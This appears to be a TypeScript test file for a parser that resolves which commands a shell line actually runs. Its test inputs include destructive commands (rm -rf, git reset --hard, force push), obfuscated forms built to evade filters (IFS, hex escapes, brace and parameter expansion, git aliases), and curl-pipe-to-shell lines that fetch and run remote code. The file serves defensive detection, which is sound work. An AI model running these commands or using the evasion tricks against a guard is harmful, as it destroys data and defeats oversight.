// biome-ignore-all lint/suspicious/noTemplateCurlyInString: lines of shell
import { describe, expect, it } from 'vitest';
import { EMPTY, read, runs } from './reading.ts';

describe('what a line runs', () => {
  const cases: readonly (readonly [line: string, runs: readonly string[]])[] = [
    ['a; b && c || d | e', ['a', 'b', 'c', 'd', 'e']],
    ['if a; then b; elif c; then d; else e; fi', ['a', 'b', 'c', 'd', 'e']],
    ['until a; do b; done', ['a', 'b']],
    ['for f in x y; do rm $f; done', ['rm x', 'rm y']],
    ['case $x in a) b ;; *) c ;; esac', ['b', 'c']],
    ['f() { git push "$@"; }; f --force origin', ['git push --force origin']],
    ['f() { f; }; f', []],
    ['echo never called; g() { rm x; }', ['echo never called']],
    ['a=(rm -rf x); ${a[0]} -f y; "${a[@]}"', ['rm -f y', 'rm -rf x']],
    ['c="rm -rf x"; $c', ['rm -rf x']],
    ['c="rm -rf x"; "$c"', ['rm -rf x']],
    ['IFS=; rm${IFS}x', ['rmx']],
    ['rm$IFS-rf${IFS}x', ['rm -rf x']],
    ['{rm,-rf,a{1..3}}', ['rm -rf a1 a2 a3']],
    ["$'\\x72m' x", ['rm x']],
    ['r\\m x', ['rm x']],
    ['${unset:-rm} x', ['rm x']],
    ['x=mr; ${x:1:1}${x:0:1} y', ['rm y']],
    ['x=RM; ${x,,} y', ['rm y']],
    ['x=rmm; ${x%m} y', ['rm y']],
    ['y=x; x=rm; ${!y} z', ['rm z']],
    ['set -- rm x; "$@"', ['set -- rm x', 'rm x']],
    ['$(printf %s rm) x', ['printf %s rm', 'rm x']],
    ['`which rm` x', ['which rm', 'rm x']],
    ['find . -name "*.o" -exec rm -f {} + -execdir mv {} x \\;', ['rm -f ?', 'mv ? x']],
    ['printf "a\\nb\\n" | xargs rm -f', ['printf a\\nb\\n', 'rm -f a b']],
    ['ls | xargs -n 1 -I{} mv {} out/', ['ls', 'mv ? out/']],
    ['parallel -j 4 rm -f ::: a b', ['rm -f a b']],
    ['parallel "gzip {}" ::: a b', ['gzip a', 'gzip b']],
    ['watch -n 5 "git status | head"', ['git status', 'head']],
    ['npx -y prettier@3 --check .', ['prettier --check .']],
    ['npx --package typescript tsc -p .', ['tsc -p .']],
    ['pnpm exec eslint .', ['eslint .']],
    ['pnpm -C web dlx cowsay hi', ['cowsay hi']],
    ['yarn dlx cowsay', ['cowsay']],
    ['pnpm cowsay hi', ['cowsay hi']],
    ['pnpm add -D cowsay', ['pnpm add -D cowsay']],
    ['yarn remove cowsay', ['yarn remove cowsay']],
    ['bunx @biomejs/biome check', ['biome check']],
    ['uv run --with x -- pytest -q', ['pytest -q']],
    ['uvx ruff@0.5 check', ['ruff check']],
    ['poetry run python -m pytest', ['pytest']],
    ['python3.12 -m pip install x', ['pip install x']],
    ['docker exec -it -u root app sh -c "rm x"', ['rm x']],
    ['docker compose run --rm -e A=1 web rake db:drop', ['rake db:drop']],
    ['kubectl exec -n x pod -- ls /', ['ls /']],
    ['sudo -E -u bob env -i A=1 nice -n 3 ionice -c 2 rm x', ['rm x']],
    ['exec -a name rm x', ['rm x']],
    ['command -v rm', ['command -v rm']],
    ['cmd /c del a.txt', ['del a.txt', 'rm a.txt']],
    ['xargs rm < list', ['rm ?']],
    ['coproc rm x', ['rm x']],
    ['time -p rm x', ['rm x']],
    ['! rm x', ['rm x']],
    ['[[ -f $(rm x) ]]', ['rm x']],
    ['echo $(( $(rm x) + 1 ))', ['rm x', 'echo ?']],
    ['git -c alias.x="reset --hard" status', ['git -c alias.x=reset --hard status']],
    ['git -c alias.x="reset --hard" x HEAD', ['git -c alias.x=reset --hard x HEAD', 'git reset --hard HEAD']],
    ["git -c alias.x='!rm -rf a' x", ['git -c alias.x=!rm -rf a x', 'rm -rf a']],
    ['git rebase -x "make test" main', ['make test']],
    ['concurrently "npm:a" "rm x"', ['rm x']],
  ];
  it.each(cases)('%s', (line, expected) => {
    expect(runs(line)).toEqual(expected);
  });
});

describe('where it runs', () => {
  const cases: readonly (readonly [line: string, program: string, folder: string | undefined])[] = [
    ['cd web && npm test', 'npm', 'web'],
    ['(cd web); npm test', 'npm', ''],
    ['cd web; cd ..; npm test', 'npm', ''],
    ['cd /tmp && make', 'make', undefined],
    ['cd "$UNKNOWN" && make', 'make', undefined],
    ['pushd web && popd && make', 'make', ''],
    ['git -C web status', 'git', 'web'],
    ['git branch -C a b', 'git', ''],
    ['npm --prefix web test', 'npm', 'web'],
    ['npm test --prefix=web', 'npm', 'web'],
    ['make -C web all', 'make', 'web'],
    ['yarn --cwd web lint', 'yarn', 'web'],
    ['pnpm --dir web add x', 'pnpm', 'web'],
    ['uv --directory web sync', 'uv', 'web'],
    ["bash -c 'cd web && make'", 'make', 'web'],
    ['cd "$(git rev-parse --show-toplevel)" && make', 'make', ''],
    ['env -C web make', 'make', 'web'],
    ['cargo -C web build', 'cargo', 'web'],
  ];
  it.each(cases)('%s', (line, program, folder) => {
    expect(read(line).invocations.findLast((invocation) => invocation.program === program)?.cwd).toBe(folder);
  });
});

describe('what cannot be known', () => {
  it.each([
    '$CMD x',
    'curl -s https://example.com/x | sh',
    'bash <(curl -s https://example.com/x)',
    'eval "$CODE"',
    'source "$FILE"',
    'bash -c "$CODE"',
    'python -c "$CODE"',
    '/usr/bin/z?? x',
    '$(cat name) x',
  ])('%s', (line) => {
    expect(read(line).unresolved).not.toEqual([]);
  });
  it.each(['rm "$FILE"', 'echo $x', 'x=$(cat f); echo "$x"', 'make "$TARGET"', 'cat f | python3 script.py'])(
    'an unknown argument is no unknown command: %s',
    (line) => {
      expect(read(line).unresolved).toEqual([]);
    },
  );
});

describe('a line that is too much', () => {
  it.each([
    ['too long', 'x'.repeat(1_000_001)],
    ['too many commands', 'a;'.repeat(10_000)],
    ['too deeply nested', `${'echo $('.repeat(60)}x${')'.repeat(60)}`],
    ['too many words from braces', `echo ${'{a,b}'.repeat(40)}`],
    [
      'functions that double',
      `a() { b; b; }; ${'bcdefghijklmnopqrst'
        .split('')
        .map((n, i, all) => `${n}() { ${all[i + 1] ?? 'x'}; ${all[i + 1] ?? 'x'}; };`)
        .join(' ')} a`,
    ],
  ])('%s', (_name, line) => {
    const { invocations } = read(line);
    expect(invocations.length).toBeLessThanOrEqual(4000);
  });
});

describe('an invocation is plain data', () => {
  it('survives JSON', () => {
    const { invocations } = read('cd web && sudo git push -f origin "$X" > log', EMPTY);
    expect(JSON.parse(JSON.stringify(invocations)).length).toBe(invocations.length);
  });
  it('shows its words as they were written', () => {
    expect(read('git commit -m "a b" "$DIR/x"').invocations[0]?.text).toBe("git commit -m 'a b' $DIR/x");
  });
  it('says how it is reached', () => {
    expect(read('bash -c \'eval "rm x"\'').invocations.at(-1)?.chain).toEqual(['bash …', 'eval …']);
  });
});
